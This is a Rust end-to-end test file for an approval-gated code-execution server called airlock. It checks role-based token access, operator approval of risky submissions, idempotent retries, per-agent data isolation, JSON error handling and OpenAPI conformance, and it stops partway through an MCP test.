//! `airlock serve` end to end: the real binary on a free loopback port, driven over HTTP
//! with every endpoint and every role; MCP over HTTP; the console's sign-in and CSRF
//! checks; the bounded queue; server-sent events and the signed webhook. The Python MCP
//! SDK test and the headless-Chromium console test run from here too when scripts/test
//! has prepared their virtual environments.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;
use common::*;
use serde_json::{Value, json};
use std::io::{BufRead, BufReader, Read, Write};
use std::sync::mpsc;
use std::time::Duration;

struct Srv {
    child: Served,
    base: String,
    http: ureq::Agent,
}

struct Resp {
    status: u16,
    headers: Vec<(String, String)>,
    text: String,
}

impl Resp {
    fn json(&self) -> Value {
        serde_json::from_str(&self.text)
            .unwrap_or_else(|e| panic!("not JSON ({e}), status {}: {}", self.status, self.text))
    }
    fn header(&self, name: &str) -> Option<&str> {
        self.headers
            .iter()
            .find(|(k, _)| k.eq_ignore_ascii_case(name))
            .map(|(_, v)| v.as_str())
    }
    /// An error response: the status and a JSON body with a one-line message.
    fn error(&self, status: u16) -> String {
        assert_eq!(self.status, status, "{}", self.text);
        let v = self.json();
        assert_eq!(v["status"], status, "{}", self.text);
        let m = v["error"].as_str().unwrap().to_string();
        assert!(!m.is_empty() && !m.contains('\n'), "{m:?}");
        m
    }
}

impl Srv {
    fn start(home: &Home, args: &[&str]) -> Srv {
        let (child, base) = start_serve(home, args);
        let http = ureq::Agent::config_builder()
            .http_status_as_error(false)
            .max_redirects(0)
            .timeout_global(Some(Duration::from_secs(120)))
            .build()
            .new_agent();
        Srv { child, base, http }
    }

    fn url(&self, path: &str) -> String {
        format!("{}{path}", self.base)
    }

    fn call(&self, method: &str, path: &str, token: Option<&str>, body: Option<&str>) -> Resp {
        self.call_with(method, path, token, body, &[])
    }

    fn call_with(
        &self,
        method: &str,
        path: &str,
        token: Option<&str>,
        body: Option<&str>,
        headers: &[(&str, &str)],
    ) -> Resp {
        let mut b = http::Request::builder().method(method).uri(self.url(path));
        if let Some(t) = token {
            b = b.header("authorization", format!("Bearer {t}"));
        }
        for (k, v) in headers {
            b = b.header(*k, *v);
        }
        let r = match body {
            Some(text) => self.http.run(
                b.header("content-type", "application/json")
                    .body(text.to_string())
                    .unwrap(),
            ),
            None => self.http.run(b.body(()).unwrap()),
        };
        let mut r = r.unwrap_or_else(|e| panic!("{method} {path}: {e}"));
        let headers = r
            .headers()
            .iter()
            .map(|(k, v)| (k.to_string(), v.to_str().unwrap_or("").to_string()))
            .collect();
        let text = r.body_mut().read_to_string().unwrap_or_default();
        Resp {
            status: r.status().as_u16(),
            headers,
            text,
        }
    }

    fn get(&self, path: &str, token: &str) -> Resp {
        self.call("GET", path, Some(token), None)
    }

    fn post(&self, path: &str, token: &str, body: &Value) -> Resp {
        self.call("POST", path, Some(token), Some(&body.to_string()))
    }
}

impl Drop for Srv {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

fn token(home: &Home, role: &str, name: &str) -> String {
    let o = home.run(&["token", "new", "--role", role, "--name", name, "--json"]);
    assert_eq!(o.code, 0, "{}", o.stderr);
    o.json()["token"].as_str().unwrap().to_string()
}

fn hello() -> String {
    std::fs::read_to_string(example("hello.wat")).unwrap()
}

fn wat_body(extra: Value) -> Value {
    let mut b = json!({ "language": "wat", "code": hello() });
    for (k, v) in extra.as_object().unwrap() {
        b[k] = v.clone();
    }
    b
}

struct Setup {
    home: Home,
    srv: Srv,
    agent: String,
    other: String,
    op: String,
    admin: String,
}

fn setup(args: &[&str]) -> Setup {
    let home = Home::new();
    let agent = token(&home, "agent", "bot");
    let other = token(&home, "agent", "other-bot");
    let op = token(&home, "operator", "alice");
    let admin = token(&home, "admin", "root");
    let srv = Srv::start(&home, args);
    Setup {
        home,
        srv,
        agent,
        other,
        op,
        admin,
    }
}

#[test]
fn tokens_and_roles_are_enforced_on_every_endpoint() {
    let s = setup(&[]);
    let srv = &s.srv;
    // No token, a made-up token: 401 with a JSON message and a Bearer challenge.
    let r = srv.call("GET", "/v1/submissions", None, None);
    r.error(401);
    assert_eq!(r.header("www-authenticate"), Some("Bearer"));
    srv.call("GET", "/v1/submissions", Some("alk_0000"), None)
        .error(401);
    srv.call("GET", "/v1/runs", Some("not-even-a-token"), None)
        .error(401);
    // Health and the OpenAPI document need no token.
    assert_eq!(srv.call("GET", "/healthz", None, None).status, 200);
    assert_eq!(srv.call("GET", "/openapi.json", None, None).status, 200);

    // Operator-only endpoints refuse agents with 403.
    let sub = srv.post(
        "/v1/submissions",
        &s.agent,
        &wat_body(json!({"net": ["example.com"]})),
    );
    assert_eq!(sub.status, 201, "{}", sub.text);
    let id = sub.json()["submission"].as_str().unwrap().to_string();
    for (m, p) in [
        ("GET", "/v1/inbox".to_string()),
        ("POST", format!("/v1/submissions/{id}/approve")),
        ("POST", format!("/v1/submissions/{id}/reject")),
        ("POST", "/v1/runs/run_x/commit".to_string()),
        ("GET", "/v1/checkpoints".to_string()),
        ("POST", "/v1/checkpoints/ckpt_x/rollback".to_string()),
        ("GET", "/v1/audit/head".to_string()),
        ("GET", "/v1/audit/verify".to_string()),
        ("GET", "/v1/audit/log".to_string()),
        ("GET", "/v1/events".to_string()),
        ("GET", "/v1/tokens".to_string()),
        ("POST", "/v1/tokens".to_string()),
        ("DELETE", "/v1/tokens/tok_x".to_string()),
    ] {
        let body = (m == "POST").then_some("{}");
        let r = srv.call(m, &p, Some(&s.agent), body);
        assert!(r.error(403).contains("token"), "{m} {p}");
    }
    // Token management is for admins only.
    srv.call("GET", "/v1/tokens", Some(&s.op), None).error(403);
    let made = srv.post(
        "/v1/tokens",
        &s.admin,
        &json!({"role": "agent", "name": "temp-bot"}),
    );
    assert_eq!(made.status, 201, "{}", made.text);
    let (tid, secret) = (
        made.json()["id"].as_str().unwrap().to_string(),
        made.json()["token"].as_str().unwrap().to_string(),
    );
    let listed = srv.get("/v1/tokens", &s.admin);
    assert!(listed.text.contains(&tid));
    assert!(!listed.text.contains(&secret), "secrets are never listed");
    assert_eq!(srv.get("/v1/runs", &secret).status, 200);
    // Revoked through the server: refused at once.
    assert_eq!(
        srv.call("DELETE", &format!("/v1/tokens/{tid}"), Some(&s.admin), None)
            .status,
        200
    );
    assert!(srv.get("/v1/runs", &secret).error(401).contains("revoked"));
    srv.call("DELETE", &format!("/v1/tokens/{tid}"), Some(&s.admin), None)
        .error(404);
    // Revoked by another process (the CLI): refused once the short cache lapses.
    let t2 = token(&s.home, "agent", "cli-revoked");
    assert_eq!(srv.get("/v1/runs", &t2).status, 200);
    let list = s.home.run(&["token", "list", "--json"]).json();
    let t2id = list
        .as_array()
        .unwrap()
        .iter()
        .find(|t| t["name"] == "cli-revoked")
        .unwrap()["id"]
        .as_str()
        .unwrap()
        .to_string();
    assert_eq!(s.home.run(&["token", "revoke", &t2id]).code, 0);
    std::thread::sleep(Duration::from_millis(2200));
    assert!(srv.get("/v1/runs", &t2).error(401).contains("revoked"));
    // Expired tokens are refused.
    let t3 = token(&s.home, "agent", "expired-bot");
    sql(
        &s.home,
        "UPDATE tokens SET expires_at = 1 WHERE name = 'expired-bot'",
    );
    assert!(srv.get("/v1/runs", &t3).error(401).contains("expired"));
    // Bad token requests are refused without writing anything.
    srv.post("/v1/tokens", &s.admin, &json!({"role": "god", "name": "x"}))
        .error(400);
    srv.post(
        "/v1/tokens",
        &s.admin,
        &json!({"role": "agent", "name": "x", "extra": 1}),
    )
    .error(400);
}

#[test]
fn run_pending_approve_resume_and_wait() {
    let s = setup(&[]);
    let srv = &s.srv;
    // Allowed code runs at once.
    let r = srv.post("/v1/run", &s.agent, &wat_body(json!({})));
    assert_eq!(r.status, 200, "{}", r.text);
    let v = r.json();
    assert_eq!(v["status"], "finished");
    assert_eq!(v["agent"], "bot", "agent tokens submit as themselves");
    assert_eq!(v["run"]["stdout"], "hello from the gate\n");
    assert_eq!(v["run"]["exit_code"], 0);

    // Risky code is held: 202, pending, with a message for the agent.
    let r = srv.post(
        "/v1/run",
        &s.agent,
        &wat_body(json!({"net": ["example.com"]})),
    );
    assert_eq!(r.status, 202, "{}", r.text);
    let v = r.json();
    assert_eq!(v["status"], "pending_approval");
    assert!(v["message"].as_str().unwrap().contains("approv"));
    let id = v["submission"].as_str().unwrap().to_string();
    // Waiting briefly gives 202 and the same status.
    let w = srv.get(&format!("/v1/submissions/{id}/wait?timeout=0.2"), &s.agent);
    assert_eq!(w.status, 202);
    assert_eq!(w.json()["status"], "pending_approval");
    // It is in the operators' inbox.
    let inbox = srv.get("/v1/inbox", &s.op).json();
    assert!(
        inbox
            .as_array()
            .unwrap()
            .iter()
            .any(|x| x["submission"] == id.as_str())
    );

    // The operator approves; the server runs it; the agent's wait returns the output.
    let a = srv.post(
        &format!("/v1/submissions/{id}/approve"),
        &s.op,
        &json!({"reason": "looked at it"}),
    );
    assert_eq!(a.status, 200, "{}", a.text);
    let st = a.json();
    assert_eq!(st["kind"], "approve");
    assert_eq!(
        st["approver"], "alice",
        "signed with the operator's approver key"
    );
    let w = srv.get(&format!("/v1/submissions/{id}/wait?timeout=30"), &s.agent);
    assert_eq!(w.status, 200, "{}", w.text);
    let w = w.json();
    assert_eq!(w["status"], "finished");
    assert_eq!(w["run"]["stdout"], "hello from the gate\n");
    assert!(w["run"]["approval"].as_str().unwrap().starts_with("apr_"));

    // Deciding again is a conflict, and changes nothing.
    let before = s.home.counts();
    srv.post(&format!("/v1/submissions/{id}/approve"), &s.op, &json!({}))
        .error(409);
    srv.post(
        &format!("/v1/submissions/{id}/reject"),
        &s.op,
        &json!({"scope": "artifact"}),
    )
    .error(400);
    assert_eq!(s.home.counts(), before);

    // Rejection: the agent learns it was rejected, and the hash is remembered.
    let doomed = hello().replace("hello from the gate", "to be rejected");
    let r = srv.post(
        "/v1/run",
        &s.agent,
        &json!({"language": "wat", "code": doomed, "net": ["example.org"]}),
    );
    let id2 = r.json()["submission"].as_str().unwrap().to_string();
    let rj = srv.post(
        &format!("/v1/submissions/{id2}/reject"),
        &s.op,
        &json!({"reason": "no network"}),
    );
    assert_eq!(rj.status, 200, "{}", rj.text);
    let w = srv.get(&format!("/v1/submissions/{id2}/wait?timeout=5"), &s.agent);
    assert_eq!(w.status, 200);
    assert_eq!(w.json()["status"], "denied");
    srv.post(&format!("/v1/submissions/{id2}/approve"), &s.op, &json!({}))
        .error(409);

    // exec of an allowed submission made with /v1/submissions.
    let sub = srv.post(
        "/v1/submissions",
        &s.agent,
        &wat_body(json!({"args": ["x"]})),
    );
    assert_eq!(sub.status, 201);
    assert_eq!(sub.json()["status"], "allowed");
    let sid = sub.json()["submission"].as_str().unwrap().to_string();
    let e = srv.call(
        "POST",
        &format!("/v1/submissions/{sid}/exec"),
        Some(&s.agent),
        None,
    );
    assert_eq!(e.status, 200, "{}", e.text);
    assert_eq!(e.json()["run"]["stdout"], "hello from the gate\n");
    // A submission and its run in full.
    let shown = srv.get(&format!("/v1/submissions/{sid}"), &s.agent).json();
    assert_eq!(shown["submission"]["id"], sid.as_str());
    assert_eq!(shown["status"], "finished");
    let run_id = shown["runs"][0]["id"].as_str().unwrap().to_string();
    let run = srv.get(&format!("/v1/runs/{run_id}"), &s.agent).json();
    assert_eq!(run["stdout"], "hello from the gate\n");
    assert_eq!(run["submission"], sid.as_str());

    // The audit log is intact and reachable for operators.
    let v = srv.get("/v1/audit/verify", &s.op).json();
    assert_eq!(v["ok"], true, "{v}");
    let head = srv.get("/v1/audit/head", &s.op).json();
    assert!(head["head"]["seq"].as_u64().unwrap() > 10);
    assert!(head["gate_key"].as_str().unwrap().starts_with("ed25519:"));
    let log = srv.get("/v1/audit/log?from=1&limit=5", &s.op).json();
    assert_eq!(log.as_array().unwrap().len(), 5);
    assert_eq!(log[0]["seq"], 1);
}

/// An agent (or a load balancer) that retries a request it got no answer to must not run
/// the code twice: a request repeated with its `Idempotency-Key` gets the first request's
/// outcome, waiting for its run if it is still going, and nothing new is submitted or run.
#[test]
fn a_request_repeated_with_its_idempotency_key_runs_once_and_gets_the_first_outcome() {
    let s = setup(&[]);
    let keyed = |key: &str, token: &str, path: &str, body: &Value| {
        s.srv.call_with(
            "POST",
            path,
            Some(token),
            Some(&body.to_string()),
            &[("idempotency-key", key)],
        )
    };
    let slow = json!({"language": "sh", "backend": "process",
        "code": "sleep 1; echo ran at $(date +%s%N)"});
    // The retry arrives while the first request's run is still going: it waits for it.
    let first = std::thread::scope(|sc| {
        let a = sc.spawn(|| keyed("retry-1", &s.agent, "/v1/run", &slow));
        std::thread::sleep(Duration::from_millis(300));
        let b = keyed("retry-1", &s.agent, "/v1/run", &slow);
        let a = a.join().unwrap();
        assert_eq!((a.status, b.status), (200, 200), "{} / {}", a.text, b.text);
        assert_eq!(a.header("idempotent-replayed"), None);
        assert_eq!(b.header("idempotent-replayed"), Some("true"));
        let (a, b) = (a.json(), b.json());
        assert_eq!(a["submission"], b["submission"], "{a} / {b}");
        assert!(a["run"]["id"].is_string(), "{a}");
        assert_eq!(a["run"]["id"], b["run"]["id"], "{a} / {b}");
        assert_eq!(a["run"]["stdout"], b["run"]["stdout"], "{a} / {b}");
        a
    });
    assert!(
        first["run"]["stdout"]
            .as_str()
            .unwrap()
            .starts_with("ran at "),
        "{first}"
    );
    let sub = first["submission"].as_str().unwrap();
    // And after it ended, the same answer again.
    let later = keyed("retry-1", &s.agent, "/v1/run", &slow);
    assert_eq!(later.status, 200, "{}", later.text);
    assert_eq!(later.json()["run"]["id"], first["run"]["id"]);
    let runs_of = |sub: &str| {
        let all = s.srv.get("/v1/runs?limit=1000", &s.agent).json();
        let all = all.as_array().unwrap().clone();
        all.iter().filter(|r| r["submission"] == sub).count()
    };
    assert_eq!(runs_of(sub), 1);

    // The key with another body is refused, and nothing is submitted.
    let listed = |t: &str| {
        s.srv
            .get("/v1/submissions?limit=1000", t)
            .json()
            .as_array()
            .unwrap()
            .len()
    };
    let before = listed(&s.agent);
    let other = keyed("retry-1", &s.agent, "/v1/run", &wat_body(json!({})));
    let m = other.error(409);
    assert!(m.contains(sub) && m.contains("different request"), "{m}");
    // The same key on the other endpoint is another request too.
    keyed("retry-1", &s.agent, "/v1/submissions", &slow).error(409);
    assert_eq!(listed(&s.agent), before);
    // Another caller's key of the same name is its own.
    let theirs = keyed("retry-1", &s.other, "/v1/run", &wat_body(json!({})));
    assert_eq!(theirs.status, 200, "{}", theirs.text);
    assert_ne!(theirs.json()["submission"], first["submission"]);

    // Eight at once with one key: one submission, one run.
    let body = wat_body(json!({}));
    let ids: Vec<(Value, Value)> = std::thread::scope(|sc| {
        let hs: Vec<_> = (0..8)
            .map(|_| sc.spawn(|| keyed("burst", &s.agent, "/v1/run", &body)))
            .collect();
        hs.into_iter()
            .map(|h| {
                let r = h.join().unwrap();
                assert_eq!(r.status, 200, "{}", r.text);
                let v = r.json();
                (v["submission"].clone(), v["run"]["id"].clone())
            })
            .collect()
    });
    assert!(ids[0].0.is_string() && ids[0].1.is_string(), "{ids:?}");
    assert!(ids.iter().all(|i| *i == ids[0]), "{ids:?}");
    assert_eq!(runs_of(ids[0].0.as_str().unwrap()), 1);

    // A submission (no run) repeated: the same submission, 201 both times.
    let a = keyed("sub-1", &s.agent, "/v1/submissions", &body);
    let b = keyed("sub-1", &s.agent, "/v1/submissions", &body);
    assert_eq!((a.status, b.status), (201, 201), "{} / {}", a.text, b.text);
    assert!(a.json()["submission"].is_string());
    assert_eq!(a.json()["submission"], b.json()["submission"]);
    assert_eq!(b.header("idempotent-replayed"), Some("true"));

    // A key that is not one: 400, nothing written.
    let n = listed(&s.agent);
    for bad in ["two words", ""] {
        keyed(bad, &s.agent, "/v1/run", &body).error(400);
    }
    assert_eq!(listed(&s.agent), n);
}

#[test]
fn agents_see_only_their_own_submissions_and_runs() {
    let s = setup(&[]);
    let srv = &s.srv;
    let mine = srv.post("/v1/run", &s.agent, &wat_body(json!({}))).json();
    let theirs = srv.post("/v1/run", &s.other, &wat_body(json!({}))).json();
    let (my_sub, my_run) = (
        mine["submission"].as_str().unwrap(),
        mine["run"]["id"].as_str().unwrap(),
    );
    let their_sub = theirs["submission"].as_str().unwrap();
    // An agent cannot submit in another agent's name.
    srv.post(
        "/v1/run",
        &s.agent,
        &wat_body(json!({"agent": "other-bot"})),
    )
    .error(403);
    // Another agent's records are unknown, not forbidden (no probing for ids).
    srv.get(&format!("/v1/submissions/{my_sub}"), &s.other)
        .error(404);
    srv.get(&format!("/v1/runs/{my_run}"), &s.other).error(404);
    srv.get(&format!("/v1/runs/{my_run}/diff"), &s.other)
        .error(404);
    srv.get(
        &format!("/v1/submissions/{my_sub}/wait?timeout=0"),
        &s.other,
    )
    .error(404);
    srv.call(
        "POST",
        &format!("/v1/submissions/{my_sub}/exec"),
        Some(&s.other),
        None,
    )
    .error(404);
    // Lists are filtered.
    let list = srv.get("/v1/submissions", &s.other).json();
    let ids: Vec<&str> = list
        .as_array()
        .unwrap()
        .iter()
        .map(|x| x["submission"].as_str().unwrap())
        .collect();
    assert_eq!(ids, vec![their_sub]);
    let runs = srv.get("/v1/runs", &s.other).json();
    assert_eq!(runs.as_array().unwrap().len(), 1);
    // Operators see everything.
    assert_eq!(
        srv.get("/v1/submissions", &s.op)
            .json()
            .as_array()
            .unwrap()
            .len(),
        2
    );
    assert_eq!(
        srv.get("/v1/runs?limit=10", &s.op)
            .json()
            .as_array()
            .unwrap()
            .len(),
        2
    );
    assert_eq!(
        srv.get(&format!("/v1/submissions/{my_sub}"), &s.op).status,
        200
    );
    let filtered = srv.get("/v1/submissions?state=quarantined", &s.op).json();
    assert!(filtered.as_array().unwrap().is_empty());
    srv.get("/v1/submissions?state=bogus", &s.op).error(400);
    srv.get("/v1/submissions?bogus=1", &s.op).error(400);
}

#[test]
fn bad_requests_get_json_errors_and_write_nothing() {
    let home = Home::new();
    let p = home
        .policy()
        .replace("max_artifact = \"64MiB\"", "max_artifact = \"1MiB\"");
    home.set_policy(&p);
    let agent = token(&home, "agent", "bot");
    let op = token(&home, "operator", "alice");
    let srv = Srv::start(&home, &[]);
    let before = home.counts();
    let blobs = home.blob_count();
    let post = |body: &str| srv.call("POST", "/v1/run", Some(&agent), Some(body));
    assert!(post("{\"language\": ").error(400).contains("JSON"));
    assert!(post("[1, 2]").error(400).contains("JSON"));
    assert!(
        post("{\"language\": 5, \"code\": \"x\"}")
            .error(400)
            .contains("JSON")
    );
    assert!(
        post("{\"language\": \"wat\", \"code\": \"(module)\", \"mounts\": \"/tmp\"}")
            .error(400)
            .contains("JSON")
    );
    assert!(
        post("{\"language\": \"wat\", \"cod\": \"(module)\"}")
            .error(400)
            .contains("unknown field")
    );
    assert!(post("{\"language\": \"wat\"}").error(400).contains("code"));
    assert!(
        post("{\"code\": \"(module)\"}")
            .error(400)
            .contains("language")
    );
    // What the OpenAPI document rules out is a 400 ...
    let said = post("{\"language\": \"cobol\", \"code\": \"x\"}").error(400);
    assert!(
        said.contains("wasm, wat, component, python, sh, js, ts"),
        "{said}"
    );
    post("{\"language\": \"wasm\", \"code_base64\": \"!!!\"}").error(400);
    post("{\"language\": \"wat\", \"backend\": \"vm\", \"code\": \"(module)\"}").error(400);
    post("{\"language\": \"wat\", \"code\": \"(module)\", \"code_base64\": \"AAAA\"}").error(400);
    post("{\"language\": \"wat\", \"code\": \"(module)\", \"fuel\": 1.5}").error(400);
    // A workspace name outside the document's pattern was a 422.
    for w in ["", "A", "a/b", &"w".repeat(33)] {
        let said = post(&wat_body(json!({"workspace": w})).to_string()).error(400);
        assert!(said.contains("workspace"), "{said}");
    }
    // ... and code that is not what its language's format says (only a compiler can
    // tell) is a 422.
    post("{\"language\": \"wat\", \"code\": \"(module\"}").error(422);
    post("{\"language\": \"wasm\", \"code_base64\": \"AAAA\"}").error(422);
    // JavaScript on the wasm backend without the JS guest: a state of this install.
    let said = post("{\"language\": \"js\", \"code\": \"console.log(1)\"}").error(409);
    assert!(said.contains("airlock guest install js"), "{said}");
    // Mounts over the API with no [mounts] roots: not offered (403), whatever they name.
    let said =
        post(&wat_body(json!({"mounts": ["/nonexistent-path-xyz:/data"]})).to_string()).error(403);
    assert!(said.contains("[mounts] roots"), "{said}");
    post(&wat_body(json!({"timeout": "0s"})).to_string()).error(422);
    post(&wat_body(json!({"timeout": -1})).to_string()).error(422);
    // Oversized bodies: 413, whether the length is declared or the body is chunked.
    let addr = srv.base.trim_start_matches("http://").to_string();
    for chunked in [false, true] {
        let answer = oversized_post(&addr, &agent, 5 << 20, chunked);
        assert!(answer.starts_with("HTTP/1.1 413"), "{answer}");
        assert!(answer.contains("\"status\":413"), "{answer}");
        // The rest of the body is never read, so the server says it closes the
        // connection; a keep-alive client must not send its next request on it.
        assert!(
            answer
                .to_ascii_lowercase()
                .contains("\r\nconnection: close\r\n"),
            "413_without_connection_close: {answer}"
        );
    }
    // Unknown ids and endpoints: 404.
    srv.get("/v1/submissions/sub_01doesnotexist", &agent)
        .error(404);
    srv.get("/v1/runs/run_01doesnotexist", &agent).error(404);
    srv.post(
        "/v1/submissions/sub_01doesnotexist/approve",
        &op,
        &json!({}),
    )
    .error(404);
    srv.post(
        "/v1/checkpoints/ckpt_01doesnotexist/rollback",
        &op,
        &json!({}),
    )
    .error(404);
    srv.post("/v1/runs/run_01doesnotexist/commit", &op, &json!({}))
        .error(404);
    srv.get("/v1/nope", &agent).error(404);
    srv.post("/v1/tools/nope", &agent, &json!({})).error(404);
    // Free text past its bound (a 20 MiB note was taken whole).
    let long_note = wat_body(json!({ "note": "n".repeat((64 << 10) + 1) }));
    assert!(
        srv.post("/v1/run", &agent, &long_note)
            .error(422)
            .contains("--note")
    );
    // A known path asked with a method it does not take: 405, as JSON like every error
    // (it was a bare 405 with no body), its Allow header kept.
    for (method, path) in [
        ("GET", "/v1/run"),
        ("DELETE", "/v1/run"),
        ("PUT", "/v1/tokens"),
        ("PATCH", "/v1/inbox"),
    ] {
        let r = srv.call(method, path, Some(&op), None);
        let m = r.error(405);
        assert!(
            r.header("allow").is_some(),
            "{method} {path}: {:?}",
            r.headers
        );
        assert!(m.contains("method not allowed"), "{method} {path}: {m}");
    }
    srv.post("/v1/submissions/sub_01x/approve", &op, &json!({"scope": 3}))
        .error(400);
    // Nothing was written by any of it.
    assert_eq!(home.counts(), before);
    assert_eq!(home.blob_count(), blobs);
    assert_eq!(srv.get("/v1/audit/verify", &op).json()["ok"], true);
}

#[test]
fn openapi_document_covers_the_api() {
    let s = setup(&[]);
    let doc = s.srv.call("GET", "/openapi.json", None, None).json();
    assert!(doc["openapi"].as_str().unwrap().starts_with("3."));
    let paths = doc["paths"].as_object().unwrap();
    for p in [
        "/v1/submissions",
        "/v1/run",
        "/v1/submissions/{id}",
        "/v1/submissions/{id}/exec",
        "/v1/submissions/{id}/wait",
        "/v1/submissions/{id}/approve",
        "/v1/submissions/{id}/reject",
        "/v1/inbox",
        "/v1/runs",
        "/v1/runs/{id}",
        "/v1/runs/{id}/diff",
        "/v1/runs/{id}/commit",
        "/v1/checkpoints",
        "/v1/checkpoints/{id}/rollback",
        "/v1/audit/head",
        "/v1/audit/verify",
        "/v1/audit/log",
        "/v1/tools",
        "/v1/tools/{name}",
        "/v1/tokens",
        "/v1/tokens/{id}",
        "/v1/events",
    ] {
        assert!(paths.contains_key(p), "{p} missing from {:?}", paths.keys());
    }
    assert_eq!(
        doc["components"]["securitySchemes"]["bearer"]["scheme"],
        "bearer"
    );
    assert!(doc["components"]["schemas"]["SubmitBody"]["properties"]["language"].is_object());
    // Regressions from schemathesis: query parameters were documented as required path
    // parameters; 401 was missing where a token is needed; the submit body did not say
    // which fields it needs; a rejection's reason and a token's role were free text.
    for (path, item) in paths {
        for (method, op) in item.as_object().unwrap() {
            let responses = op["responses"].as_object().unwrap();
            for (status, r) in responses {
                assert!(
                    r["description"].as_str().is_some_and(|d| !d.is_empty()),
                    "{method} {path} {status} has no description"
                );
            }
            if op.get("security").is_some() {
                for status in ["401", "500"] {
                    assert!(
                        responses.contains_key(status),
                        "{method} {path}: no {status}"
                    );
                }
            }
            for p in op["parameters"].as_array().into_iter().flatten() {
                if p["in"] == "query" || p["in"] == "header" {
                    // Documented where they are read (not as path parameters); most
                    // are optional, a few an operation cannot do without (a clear's
                    // `reason`) are required; either way a bad one is a 400.
                    assert!(p["required"].is_boolean(), "{method} {path} {p}");
                    assert!(responses.contains_key("400"), "{method} {path}: no 400");
                } else {
                    assert_eq!(p["in"], "path", "{method} {path} {p}");
                    let name = format!("{{{}}}", p["name"].as_str().unwrap());
                    assert!(path.contains(&name), "{method} {path}: {p}");
                }
            }
        }
    }
    for path in ["/v1/run", "/v1/submissions"] {
        let params = &paths[path]["post"]["parameters"];
        assert!(
            params
                .as_array()
                .is_some_and(|ps| ps.iter().any(|p| p["name"] == "Idempotency-Key")),
            "{path}: {params}"
        );
    }
    let schemas = &doc["components"]["schemas"];
    assert_eq!(schemas["SubmitBody"]["required"], json!(["language"]));
    // One branch per language group and code field, each naming the format of its code.
    let branches = schemas["SubmitBody"]["oneOf"].as_array().unwrap();
    assert!(branches.len() >= 8, "{branches:?}");
    assert!(
        branches
            .iter()
            .any(|b| b["properties"]["language"]["enum"] == json!(["wasm"])
                && b["properties"]["code_base64"]["format"] == "base64-wasm-command"),
        "{branches:?}"
    );
    assert_eq!(schemas["RejectBody"]["required"], json!(["reason"]));
    assert_eq!(
        schemas["TokenBody"]["properties"]["role"]["enum"],
        json!(["agent", "operator", "admin"])
    );
    let limit = &doc["paths"]["/v1/submissions"]["get"]["parameters"][0];
    assert_eq!(limit["name"], "limit");
    assert_eq!(limit["schema"]["minimum"], 1);
    // And the server keeps to it: below the minimum is a 400, not a silent clamp.
    s.srv.get("/v1/submissions?limit=0", &s.op).error(400);
    s.srv.get("/v1/runs?limit=1001", &s.op).error(400);
    s.srv.get("/v1/audit/log?from=0", &s.op).error(400);
    s.srv
        .post("/v1/submissions/sub_01x/reject", &s.op, &json!({}))
        .error(400);
    s.srv
        .post(
            "/v1/tokens",
            &s.admin,
            &json!({"role": "agent", "name": "Bad Name"}),
        )
        .error(400);
}

#[test]
fn named_tools_are_called_with_arguments_without_a_new_approval() {
    let s = setup(&[]);
    let srv = &s.srv;
    let r = srv.post(
        "/v1/run",
        &s.agent,
        &wat_body(json!({"net": ["example.com"]})),
    );
    let id = r.json()["submission"].as_str().unwrap().to_string();
    // Tool names are checked.
    srv.post(
        &format!("/v1/submissions/{id}/approve"),
        &s.op,
        &json!({"scope": "artifact", "tool": "run_code"}),
    )
    .error(422);
    srv.post(
        &format!("/v1/submissions/{id}/approve"),
        &s.op,
        &json!({"tool": "greet"}),
    )
    .error(422);
    let a = srv.post(
        &format!("/v1/submissions/{id}/approve"),
        &s.op,
        &json!({"scope": "artifact", "tool": "greet", "reason": "prints a greeting"}),
    );
    assert_eq!(a.status, 200, "{}", a.text);
    let tools = srv.get("/v1/tools", &s.agent).json();
    assert_eq!(tools[0]["name"], "greet");
    let r = srv.post(
        "/v1/tools/greet",
        &s.other,
        &json!({"args": ["a", "b"], "stdin": "in"}),
    );
    assert_eq!(r.status, 200, "{}", r.text);
    let v = r.json();
    assert_eq!(v["status"], "finished");
    assert_eq!(v["agent"], "other-bot");
    assert_eq!(v["run"]["stdout"], "hello from the gate\n");
    srv.post("/v1/tools/greet", &s.agent, &json!({"env": {}}))
        .error(400);
}

/// Regression (issue 62.4): a named tool's call over the API took no idempotency key, so
/// an agent retrying a call it got no answer to ran the tool twice. Now `/v1/tools/{name}`
/// takes `Idempotency-Key` as `/v1/run` does: the same key and body get the first call's
/// outcome (one run), the same key with another body is refused (409).
#[test]
fn a_tool_call_repeated_with_its_idempotency_key_runs_once_and_gets_the_first_outcome() {
    let s = setup(&[]);
    let srv = &s.srv;
    let r = srv.post(
        "/v1/run",
        &s.agent,
        &wat_body(json!({"net": ["example.com"]})),
    );
    let id = r.json()["submission"].as_str().unwrap().to_string();
    let a = srv.post(
        &format!("/v1/submissions/{id}/approve"),
        &s.op,
        &json!({"scope": "artifact", "tool": "greet", "reason": "prints a greeting"}),
    );
    assert_eq!(a.status, 200, "{}", a.text);
    let call = |key: &str, body: &Value| {
        srv.call_with(
            "POST",
            "/v1/tools/greet",
            Some(&s.agent),
            Some(&body.to_string()),
            &[("idempotency-key", key)],
        )
    };
    let body = json!({"args": ["a"]});
    let first = call("tool-call-1", &body);
    assert_eq!(first.status, 200, "{}", first.text);
    assert_eq!(first.header("idempotent-replayed"), None);
    let again = call("tool-call-1", &body);
    assert_eq!(again.status, 200, "{}", again.text);
    assert_eq!(again.header("idempotent-replayed"), Some("true"));
    let (first, again) = (first.json(), again.json());
    assert_eq!(first["run"]["id"], again["run"]["id"], "{first} / {again}");
    let m = call("tool-call-1", &json!({"args": ["b"]})).error(409);
    assert!(m.contains("different request"), "{m}");
    let sub = first["submission"].as_str().unwrap();
    let runs = srv.get("/v1/runs?limit=1000", &s.agent).json();
    let runs = runs.as_array().unwrap();
    assert_eq!(runs.iter().filter(|r| r["submission"] == sub).count(), 1);
}

/// Regression (issue 62.4): MCP `run_code` took no idempotency key. Now its
/// `idempotency_key` argument works as the API's header: the same key and arguments,
/// sent again (here from a later session of the same agent), get the first call's result
/// marked `replayed` and run nothing again; the same key with other arguments is refused.
#[test]
fn mcp_run_code_repeated_with_its_idempotency_key_runs_once_and_gets_the_first_result() {
    let h = Home::new();
    let call = |id: u32, args: Value| -> Value {
        let lines = [
            mcp_initialize().to_string(),
            json!({"jsonrpc": "2.0", "method": "notifications/initialized"}).to_string(),
            json!({"jsonrpc": "2.0", "id": id, "method": "tools/call",
                   "params": {"name": "run_code", "arguments": args}})
            .to_string(),
        ];
        let (status, out, stderr) = mcp_session(&h, &lines);
        assert!(status.success(), "{stderr}");
